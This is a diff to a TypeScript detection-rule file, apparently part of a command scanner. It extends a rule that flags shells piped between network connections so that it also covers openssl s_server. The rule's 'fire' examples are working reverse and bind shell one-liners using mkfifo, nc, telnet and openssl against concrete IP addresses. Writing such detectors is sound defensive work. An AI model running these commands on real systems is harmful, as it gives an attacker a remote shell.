@@ -436,10 +436,10 @@ export const RULES: readonly Rule[] = [
     message: 'Pipes a shell between network connections', why: '`nc host p | sh | nc host p2`, a mkfifo loop or `openssl s_client | sh` turns a socket into a remote shell.',
     test: (c) => {
       if (!isShell(c.name) || !readsStdin(c)) return undefined;
-      const sock = (n?: SimpleCommand) => n !== undefined && SOCKET_TOOLS.has(n.name) && (n.name !== 'openssl' || n.argv[1] === 's_client');
+      const sock = (n?: SimpleCommand) => n !== undefined && SOCKET_TOOLS.has(n.name) && (n.name !== 'openssl' || n.argv[1] === 's_client' || n.argv[1] === 's_server');
       return sock(c.pipeFrom) || sock(c.pipeTo) ? [c.pipeFrom?.argv.join(' '), c.argv.join(' '), c.pipeTo?.argv.join(' ')].filter(Boolean).join(' | ') : undefined;
     },
-    examples: { fire: ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.33.12.7 4444 > /tmp/f', 'telnet 45.33.12.7 4444 | /bin/bash | telnet 45.33.12.7 4445', 'openssl s_client -quiet -connect 1.2.3.4:443 | sh', 'mknod /tmp/p p && sh 0</tmp/p | nc 203.0.113.5 80 1>/tmp/p'], quiet: ['echo PING | nc localhost 6379', 'openssl s_client -connect example.com:443 </dev/null', 'bash build.sh | tee build.log'] },
+    examples: { fire: ['rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc 45.33.12.7 4444 > /tmp/f', 'telnet 45.33.12.7 4444 | /bin/bash | telnet 45.33.12.7 4445', 'openssl s_client -quiet -connect 1.2.3.4:443 | sh', 'mkfifo /dev/shm/f; openssl s_server -quiet -accept 8443 -key k.pem -cert c.pem < /dev/shm/f | /bin/bash > /dev/shm/f 2>&1', 'mknod /tmp/p p && sh 0</tmp/p | nc 203.0.113.5 80 1>/tmp/p'], quiet: ['echo PING | nc localhost 6379', 'openssl s_client -connect example.com:443 </dev/null', 'bash build.sh | tee build.log'] },
   },
   {
     id: 'PX-C2-004', name: 'socat-exec-over-network', score: 95, tactic: 'command_and_control', technique: 'T1059.004', strong: true,
